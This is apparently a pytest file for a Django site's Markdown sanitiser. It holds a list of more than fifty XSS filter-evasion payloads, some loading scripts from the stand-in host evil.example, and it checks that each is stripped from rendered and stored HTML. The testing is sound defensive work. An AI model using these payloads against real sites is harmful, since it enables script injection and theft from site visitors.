from html.parser import HTMLParser

import pytest

from core.markdown import ALLOWED_TAGS, html_to_text, render_markdown, render_markdown_with_toc
from guidance.models import Theme
from tests.factories import GuidancePageFactory

# Filter-evasion payloads in the style of the OWASP XSS cheat sheet.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG onerror="alert(1)" src=x>',
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//evil.example/.j>",
    "<iframe src=https://evil.example/></iframe>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JaVaScRiPt:alert(1)">klik</a>',
    '<a href="&#106;avascript:alert(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    "[klik](javascript:alert(1))",
    "[klik](JAVASCRIPT:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<a href="https://ok.example" onclick="alert(1)">klik</a>',
    "<p onmouseover=alert(1)>tekst</p>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<h2 id="main-content" onclick=alert(1)>kop</h2>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="  javascript:alert(1)">spatie</a>',
]

SAFE_SCHEMES = ("http://", "https://", "mailto:", "tel:", "/", "#")


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "src", "srcset", "action", "formaction", "background"}:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "href" and not (value or "").strip().lower().startswith(SAFE_SCHEMES):
                self.problems.append(f"href {value!r}")
            squashed = (value or "").lower().replace(" ", "")
            if any(scheme in squashed for scheme in ("javascript:", "vbscript:", "data:")):
                self.problems.append(f"{name}={value!r}")
            if name == "id" and not (value or "").startswith("h-"):
                self.problems.append(f"id {value!r}")

    def handle_comment(self, data):
        self.problems.append("comment")


def problems_in(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    lowered = html.lower()
    for needle in ("<script", "<iframe", "<style", "<svg", "<object", "<embed", "<img", "<math"):
        if needle in lowered:
            inspector.problems.append(needle)
    return inspector.problems


def test_there_are_at_least_thirty_payloads():
    assert len(XSS_PAYLOADS) >= 30


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_markdown_strips_the_payload(payload):
    html = render_markdown(f"Tekst ervoor\n\n{payload}\n\nTekst erna")
    assert problems_in(html) == []
    assert "Tekst ervoor" in html


@pytest.mark.django_db
def test_no_payload_survives_any_markdown_field_of_a_page_or_theme():
    text = "\n\n".join(XSS_PAYLOADS)
    page = GuidancePageFactory(body=text, body_en=text)
    page.refresh_from_db()
    theme = Theme.objects.get(slug="klimaat")
    theme.description = theme.description_en = theme.why_it_matters = theme.why_it_matters_en = text
    theme.save()
    theme.refresh_from_db()
    stored = {
        "page.body": page.body_html,
        "page.body_en": page.body_en_html,
        "theme.description": theme.description_html,
        "theme.description_en": theme.description_en_html,
        "theme.why_it_matters": theme.why_it_matters_html,
        "theme.why_it_matters_en": theme.why_it_matters_en_html,
    }
    for field, html in stored.items():
        assert html, field
        assert problems_in(html) == [], field


def test_markdown_gives_tables_lists_links_and_headings_with_ids():
    html, toc = render_markdown_with_toc(
        "## Eerste stap\n\n- een\n- twee\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n"
        "[PIANOo](https://www.pianoo.nl)\n\n### Detail"
    )
    assert '<h2 id="h-eerste-stap">Eerste stap</h2>' in html
    assert "<ul>" in html and "<table>" in html
    assert '<a href="https://www.pianoo.nl" rel="noopener noreferrer">PIANOo</a>' in html
    assert toc == [
        {"id": "h-eerste-stap", "name": "Eerste stap", "level": 2},
        {"id": "h-detail", "name": "Detail", "level": 3},
    ]


def test_a_top_level_heading_in_a_body_becomes_an_h2_so_the_page_keeps_one_h1():
    assert render_markdown("# Kop").startswith('<h2 id="h-kop">')


def test_plain_text_of_html_keeps_words_apart():
    assert html_to_text("<p>een</p><p>twee &amp; drie</p>") == "een twee & drie"
